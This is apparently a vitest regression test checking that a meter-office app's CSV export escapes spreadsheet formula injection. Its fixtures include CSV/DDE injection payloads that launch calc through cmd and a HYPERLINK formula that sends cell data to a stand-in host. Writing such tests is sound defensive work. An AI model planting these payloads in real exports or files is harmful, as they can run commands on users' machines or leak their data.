// CSV exports are not open to formula injection (issue 15, defect 7): a seal number, a radio id or
// a customer's name typed as a formula is written to the meters-due CSV as text — with a leading
// apostrophe — so Excel shows it instead of running it; read back with the app's own CSV reader,
// every other cell is exactly what the list holds.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { splitCsv } from '../../shared/domain/csv-import'
import type { TestDesk } from '../support/desk'
import { officeTemplate, seedCustomer, seedTariffGroup } from '../support/meter-office'

let desk: TestDesk
let token: string
const office = officeTemplate()

beforeAll(async () => {
  const made = await office.make(() => new Date('2026-11-25T10:00:00Z'))
  desk = made.desk
  token = made.token
})
afterAll(() => desk?.dispose())

describe('meters-due CSV', () => {
  it('writes cells that start with = + - @ as text, and leaves numbers and ordinary text alone', async () => {
    const groupId = seedTariffGroup(desk)
    const attacks = [
      { lastName: '=HYPERLINK("http://zly.example/?x="&A1;"Kliknij")', meter: { sealNo: '+48601234567', radioId: '@SUM(1+1)*cmd|/C calc!A0' } },
      { lastName: '-2+3+cmd|/C calc!A0', meter: { sealNo: '=1+2', radioId: '-1+cmd|/C calc!A0' } },
      { lastName: 'Kowalczyk', meter: { sealNo: 'PL-7700001', radioId: 'A1B2C3D4' } },
    ]
    const seeded = []
    for (const a of attacks) seeded.push(await seedCustomer(desk, token, groupId, { legalisationYear: 2020, lastName: a.lastName, meter: a.meter }))
    // A company whose name is a formula.
    const company = { kind: 'company' as const, companyName: '=cmd|\' /C calc\'!A0', nip: '7671325342', correspondenceAddress: { street: 'Grecka', houseNo: '6', flatNo: null, postalCode: '22-400', city: 'Zamość' } }
    await desk.call('customers.update', { id: seeded[1].customerId, data: company }, token)

    const { csv } = await desk.call('meters.dueCsv', { days: 90 }, token)
    expect(csv.startsWith('\ufeff')).toBe(true)
    const rows = splitCsv(csv.slice(1), ';').map((r) => r.cells)
    const header = rows[0]
    const col = (name: string) => header.indexOf(name)
    const bySeal = new Map(rows.slice(1).map((r) => [r[col('Nr plomby')], r]))
    expect(rows).toHaveLength(4)

    const formulaCells = rows.slice(1).flatMap((r) => r).filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-\d+$/.test(cell))
    expect(formulaCells, 'no cell starts a formula').toEqual([])

    const first = bySeal.get("'+48601234567")!
    expect(first[col('Moduł radiowy')]).toBe("'@SUM(1+1)*cmd|/C calc!A0")
    expect(first[col('Odbiorca')]).toBe('Grażyna =HYPERLINK("http://zly.example/?x="&A1;"Kliknij")')
    const second = bySeal.get("'=1+2")!
    expect(second[col('Moduł radiowy')]).toBe("'-1+cmd|/C calc!A0")
    expect(second[col('Odbiorca')]).toBe("'=cmd|' /C calc'!A0")
    // Ordinary cells, and numbers (days left is negative), stay as they are.
    const plain = bySeal.get('PL-7700001')!
    expect(plain[col('Moduł radiowy')]).toBe('A1B2C3D4')
    expect(plain[col('Odbiorca')]).toBe('Grażyna Kowalczyk')
    expect(plain[col('Dni do końca')]).toBe('-329')
    expect(plain[col('Rok legalizacji')]).toBe('2020')
  })
})
